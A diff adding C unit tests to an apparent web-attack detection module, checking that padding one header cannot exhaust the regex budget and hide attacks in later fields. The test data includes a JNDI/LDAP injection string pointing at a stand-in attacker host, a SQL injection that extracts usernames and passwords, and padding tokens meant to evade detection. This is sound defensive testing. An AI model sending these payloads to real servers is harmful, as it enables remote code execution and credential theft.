@@ -339,7 +339,144 @@ static void test_budget(apr_pool_t *p)
         memcpy(uri + 4 + 2 * i, "zz", 2);
     uri[8004] = '\0';
     classify(e, "GET", uri, NULL, 0, &lim, p, &res);
-    CHECK(res.limit_hit == 1 && res.nhits == 0);
+    CHECK(res.limit_hit == 1 && res.nhits == 1
+          && res.hits[0].rule_id == LW_EVASION_RULE_ID);
+}
+
+/* One field padded with text that wakes many rules cannot starve the
+ * next one: each field has its own share of the regex budget, and a field
+ * that uses its share up flags the request as an evasion attempt. */
+static void test_padding(apr_pool_t *p)
+{
+    char *text = "", *ua, *ref;
+    lw_engine_t *e;
+    lw_limits_t lim;
+    lw_result_t res;
+    lw_header_t h[3];
+    const lw_hit_t *ev;
+    int i;
+    for (i = 0; i < 12; i++)
+        text = apr_psprintf(p, "%srule %d\n category sqli\n severity low\n"
+                            " msg m%d\n target user_agent referer\n"
+                            " literal zz\n pattern zz\\d\n"
+                            " match User-Agent: zz1\n nomatch User-Agent: zz\n",
+                            text, 300 + i, i);
+    text = apr_pstrcat(p, text, R(320, "rce", "critical", "referer",
+                                  " literal ${jndi:\n", "\\$\\{jndi:",
+                                  "Referer: ${jndi:x}", "Referer: ${x}"), NULL);
+    e = engine(p, "padding.rules", text);
+    CHECK(e != NULL);
+    if (!e)
+        return;
+    lw_limits_default(&lim);
+    ua = apr_palloc(p, 8200);
+    for (i = 0; i < 4000; i++)
+        memcpy(ua + 2 * i, "zz", 2);
+    ua[8000] = '\0';
+    ref = apr_palloc(p, 7100);
+    memset(ref, 'x', 7000);
+    strcpy(ref + 7000, "${jndi:ldap://evil.example/a}");
+    h[0].name = "User-Agent";
+    h[0].value = ua;
+    h[1].name = "Referer";
+    h[1].value = ref;
+
+    /* The padded User-Agent uses its share up: flagged as evasion. */
+    CHECK(classify(e, "GET", "/", h, 1, &lim, p, &res) == 1);
+    ev = find_hit(&res, LW_EVASION_RULE_ID);
+    CHECK(res.limit_hit == 1 && ev != NULL);
+    CHECK(ev && ev->category == LW_CAT_PROTOCOL && ev->severity == LW_SEV_HIGH
+          && strcmp(ev->field, "user_agent") == 0 && ev->detail != NULL);
+    CHECK(res.categories == 1u << LW_CAT_PROTOCOL);
+    /* The Referer behind it still gets its regexes. */
+    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
+    CHECK(find_hit(&res, 320) != NULL);
+    CHECK(find_hit(&res, LW_EVASION_RULE_ID) != NULL);
+    /* A short field is unaffected; the evasion hit alone flags whatever
+     * LogWatchMinScore says, and goes with an exclusion of its id. */
+    lim.min_score = 100;
+    CHECK(classify(e, "GET", "/", h, 1, &lim, p, &res) == 1);
+    {
+        apr_uint32_t id = LW_EVASION_RULE_ID;
+        CHECK(lw_result_exclude(&res, NULL, 0, 0, lim.min_score) == 1);
+        CHECK(lw_result_exclude(&res, &id, 1, 0, lim.min_score) == 0);
+    }
+    lim.min_score = LW_DEFAULT_MIN_SCORE;
+    h[0].value = "zz zz zz Mozilla/5.0";
+    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
+    CHECK(res.limit_hit == 0 && find_hit(&res, 320)
+          && !find_hit(&res, LW_EVASION_RULE_ID));
+    /* Nor does a whole budget of padded parameters hide a header. */
+    {
+        char *uri = apr_palloc(p, 8200);
+        strcpy(uri, "/?a=");
+        for (i = 0; i < 4000; i++)
+            memcpy(uri + 4 + 2 * i, "zz", 2);
+        uri[8004] = '\0';
+        h[0].value = ua;
+        CHECK(classify(e, "GET", uri, h, 2, &lim, p, &res) == 1);
+        CHECK(find_hit(&res, 320) != NULL);
+    }
+}
+
+/* The issue's requests against the default signatures: a User-Agent of
+ * ~8,000 bytes of rule-waking tokens, then an attack in the Referer or
+ * the Cookie behind 7,000 bytes of padding. Flagged, as without the
+ * padded User-Agent. */
+static void test_padding_default_set(apr_pool_t *p)
+{
+    const char *dir = apr_pstrcat(p, lw_test_srcdir(), "/conf/signatures",
+                                  NULL);
+    static const char tokens[] = "union select sleep load_file script "
+                                 "document. ${ <? {{ .. | ";
+    lw_ruleset_t *rs = lw_ruleset_create(p);
+    lw_engine_t *e = NULL;
+    lw_limits_t lim;
+    lw_result_t res;
+    lw_header_t h[2];
+    char *err = NULL, *ua, *ref, *cookie;
+    void *blob;
+    apr_size_t len, n = 0;
+
+    if (lw_ruleset_load(rs, dir, &err) != APR_SUCCESS
+        || lw_ruleset_compile(rs, p, &blob, &len, &err) != APR_SUCCESS
+        || lw_engine_create(&e, blob, len, p, &err) != APR_SUCCESS)
+        fprintf(stderr, "default set: %s\n", err ? err : "?");
+    CHECK(e != NULL);
+    if (!e)
+        return;
+    lw_limits_default(&lim);
+    ua = apr_palloc(p, 8300);
+    while (n < 8000) {
+        memcpy(ua + n, tokens, sizeof(tokens) - 1);
+        n += sizeof(tokens) - 1;
+        memset(ua + n, 'a', 40);
+        n += 40;
+        ua[n++] = ' ';
+    }
+    ua[n] = '\0';
+    ref = apr_palloc(p, 7100);
+    memset(ref, 'x', 7000);
+    strcpy(ref + 7000, "${jndi:ldap://evil.example/a}");
+    cookie = apr_palloc(p, 7100);
+    strcpy(cookie, "id=-1 UNION SELECT username,password FROM users--;p=");
+    n = strlen(cookie);
+    memset(cookie + n, 'b', 7000);
+    cookie[n + 7000] = '\0';
+
+    h[0].name = "User-Agent";
+    h[0].value = "Mozilla/5.0 (X11; Linux x86_64)";
+    h[1].name = "Referer";
+    h[1].value = ref;
+    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
+    CHECK(res.categories & (1u << LW_CAT_RCE));
+    h[0].value = ua;
+    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
+    CHECK(res.categories & (1u << LW_CAT_RCE));
+    h[1].name = "Cookie";
+    h[1].value = cookie;
+    CHECK(classify(e, "GET", "/", h, 2, &lim, p, &res) == 1);
+    CHECK(res.categories & (1u << LW_CAT_SQLI));
 }
 
 /* Bitsets over many words: more rules than fit the stack bitsets. */
@@ -418,6 +555,8 @@ int main(void)
     test_limits(p);
     test_many_hits(p);
     test_budget(p);
+    test_padding(p);
+    test_padding_default_set(p);
     test_many_rules(p);
     apr_dir_remove(tmpdir, p);
     LW_TEST_END();
